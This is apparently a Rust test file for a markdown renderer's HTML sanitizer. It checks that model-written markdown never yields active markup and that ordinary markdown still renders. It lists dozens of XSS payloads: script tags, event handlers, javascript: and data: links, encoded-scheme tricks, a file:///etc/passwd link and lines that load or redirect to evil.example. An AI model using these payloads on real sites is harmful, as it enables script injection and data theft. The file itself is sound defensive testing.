use super::*;

/// Everything that an attack would need, in the tags of the rendered page. Escaped text has no tags, so it may say
/// what it likes.
fn offences(html: &str) -> Vec<String> {
    let allowed = [
        "p",
        "a",
        "em",
        "strong",
        "del",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "blockquote",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "span",
        "input",
    ];
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let inside = tag.split('>').next().unwrap_or_default();
        let name = inside.trim_start_matches('/').split([' ', '\n', '/']).next().unwrap_or_default();
        let lower = inside.to_lowercase();
        let attributes = lower.split_once(' ').map_or("", |(_, rest)| rest);
        let link = attributes
            .strip_prefix("href=\"")
            .map(|rest| ["http://", "https://", "mailto:"].iter().any(|scheme| rest.starts_with(scheme)));
        let fine = allowed.contains(&name)
            && link != Some(false)
            && (attributes.is_empty()
                || link == Some(true)
                || attributes.starts_with("class=\"")
                || attributes.starts_with("style=\"text-align")
                || attributes.starts_with("start=\"")
                || lower.starts_with("input disabled"));
        if !fine {
            found.push(inside.to_owned());
        }
    }
    found
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "text <img src=x onerror=alert(1)> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'http://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><button>x</button></form>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>",
    "<div\nonclick=alert(1)\n>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](http:evil)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/track.png)",
    "![\" onerror=\"alert(1)](x)",
    "![<script>alert(1)</script>](x)",
    "[a\" onmouseover=\"alert(1)](http://x)",
    "[x](http://x\"onmouseover=\"alert(1))",
    "[x](http://x 't\" onmouseover=\"alert(1)')",
    "[x](http://x/'><script>alert(1)</script>)",
    "```\n<script>alert(1)</script>",
    "```\" onmouseover=\"alert(1)\n x\n```",
    "```html\"><script>alert(1)</script>\nx\n```",
    "~~~\n</code></pre><script>alert(1)</script>\n",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>\n- alert(1)\n- </script>",
    "*<b onmouseover=alert(1)>*",
    "a\0b<scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{2028}<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
];

#[test]
fn nothing_a_model_writes_becomes_active() {
    for attack in ATTACKS {
        let html = render(attack);
        assert_eq!(offences(&html), Vec::<String>::new(), "{attack}\n{html}");
    }
}

#[test]
fn ordinary_markdown_is_still_rendered() {
    let html = render(
        "# Title\n\n**b** [x](https://a.example/?q=1&r=\"2\") <b>raw</b>\n\n```rust\nfn f<T>() {}\n```\n\n|a|\n|-|\n|b|",
    );
    insta::assert_snapshot!(html, @r#"
    <h1>Title</h1>
    <p><strong>b</strong> <a href="https://a.example/?q=1&amp;r=&quot;2&quot;" rel="noopener noreferrer">x</a> &lt;b&gt;raw&lt;/b&gt;</p>
    <pre><code class="language-rust">fn f&lt;T&gt;() {}
    </code></pre>
    <table><thead><tr><th>a</th></tr></thead><tbody>
    <tr><td>b</td></tr>
    </tbody></table>
    "#);
}
